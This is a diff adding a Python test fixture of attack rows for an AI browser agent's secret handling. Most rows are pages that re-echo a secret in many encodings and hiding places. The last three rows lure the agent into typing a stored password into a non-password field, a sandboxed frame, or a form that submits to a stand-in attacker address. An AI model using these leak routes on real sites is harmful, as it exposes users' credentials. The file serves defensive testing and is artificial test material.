@@ -1,0 +1,52 @@
+"""Pages that say a secret again, in whatever form, where a model or a file would get to see it."""
+
+# ruff: noqa: E501 (a row is a line)
+
+from __future__ import annotations
+
+from .rows import Attack, Calls, echo
+
+_SEARCH: Calls = (("search_page", {"pattern": r"\S+", "regex": True, "max_results": 50}),)
+_FIND: Calls = (
+    (
+        "find_elements",
+        {"selector": "*", "attributes": ["title", "href", "value", "data-x", "class", "id", "alt", "src"]},
+    ),
+)
+_PUT = "const put = (tag, more, text = '') => { const e = document.createElement(tag); e.textContent = text; for (const k in more) e.setAttribute(k, more[k]); out.append(e); return e; };"
+
+ECHOES = [
+    echo("as it is", "say(s)"),
+    echo("backwards", "say([...s].reverse().join(''))"),
+    echo("in capitals", "say(s.toUpperCase()); say(s.toLowerCase())"),
+    echo("base64", "say(btoa(s)); say(btoa('x' + s)); say(btoa('xx' + s))"),
+    echo("encoded for an address", "say([...s].map((c) => '%' + c.charCodeAt(0).toString(16)).join(''))"),
+    echo("hexadecimal", "say([...s].map((c) => c.charCodeAt(0).toString(16)).join(''))"),
+    echo("wide letters", "say([...s].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join(''))"),
+    echo("with signs between", "say([...s].join('-')); say([...s].join(' ')); say([...s].join('\\u200b'))"),
+    echo("an element for each letter", "const p = document.createElement('p'); for (const c of s) p.append(Object.assign(document.createElement('span'), {textContent: c})); out.append(p)"),
+    echo("a line for each letter", "for (const c of s) say(c)"),
+    echo("in halves", "say('first ' + s.slice(0, 8)); out.lastChild.append(document.createElement('b'), s.slice(8))"),
+    echo("in a title", "document.title = s"),
+    echo("in the address", "history.replaceState(0, '', '/?p=' + s + '#' + s)"),
+    echo("in a link", f"{_PUT} put('a', {{href: '/' + s}}, 'on'); put('a', {{href: '#' + encodeURIComponent(s)}}, 'on')", _FIND),
+    echo("in attributes", f"{_PUT} put('p', {{title: s, 'data-x': s, class: s, id: s, 'aria-description': s}}, 'x')", _FIND),
+    echo("in names", f"{_PUT} put('button', {{'aria-label': s}}); put('img', {{alt: s}}); put('canvas', {{'aria-label': s}}); put('iframe', {{title: s}}); put('div', {{role: 'slider', 'aria-valuetext': s, tabindex: 0}})"),
+    echo("in values", f"{_PUT} put('input', {{'aria-label': 'a'}}).value = s; put('textarea', {{'aria-label': 'b'}}).value = s; put('input', {{placeholder: s}}); put('select', {{}}).append(new Option(s, s))", _FIND),
+    echo("in a shadow root", f"{_PUT} put('div', {{}}).attachShadow({{mode: 'closed'}}).textContent = s"),
+    echo("in a frame", f"{_PUT} put('iframe', {{srcdoc: '<p>' + s}})", _SEARCH),
+    echo("by a style sheet", f"{_PUT} put('style', {{}}, `p::after {{ content: '${{s}}' }}`); say('x')"),
+    echo("in a dialog", "alert(s); confirm([...s].reverse().join('')); prompt(s, s)"),
+    echo("in a new tab", "window.open('/?p=' + s)"),
+    echo("in the name of a file", "const a = document.createElement('a'); a.download = s + '.txt'; a.href = window.URL.createObjectURL(new Blob(['x'])); a.click()", downloads=1),
+    echo("in a request that fails", "fetch('/missing/' + s)"),
+    echo("in an error", "console.error(s); setTimeout(() => { throw new Error(s) })"),
+    echo("to a search", "say('You typed ' + s + ' there')", _SEARCH),
+    echo("letter by letter to a search", "say('You typed ' + s + ' there')", (("search_page", {"pattern": "You typed (?:Ki|[^K])", "regex": True, "context_chars": 500}),)),
+    echo("in a table", f"{_PUT} const r = put('table', {{}}).insertRow(); for (const part of [s.slice(0, 5), s.slice(5, 10), s.slice(10)]) r.insertCell().textContent = part"),
+    echo("as a password that is shown", "event.target.type = 'text'"),
+    echo("in the caret's line", f"{_PUT} const e = put('div', {{contenteditable: '', role: 'textbox', 'aria-label': 'E'}}, s); e.focus()"),
+    Attack("a field that is no password", "<title>Shop</title><form><input aria-label=Password></form>", calls=(("fill", {"ref": "{{ref:textbox Password}}", "value": "<secret:password>"}), ("snapshot", {}))),
+    Attack("a form that leads away", "<title>Shop</title><form action='EVIL/x'><input type=password aria-label=Password></form>", calls=(("fill", {"ref": "{{ref:textbox Password}}", "value": "<secret:password>"}), ("press", {"key": "Enter"}))),
+    Attack("a field in a frame of the attacker's look", "<title>Shop</title><iframe sandbox='allow-scripts' srcdoc='<input type=password aria-label=Password>'></iframe>", calls=(("fill", {"ref": "{{ref:textbox Password}}", "value": "<secret:password>"}),)),
+]  # fmt: skip
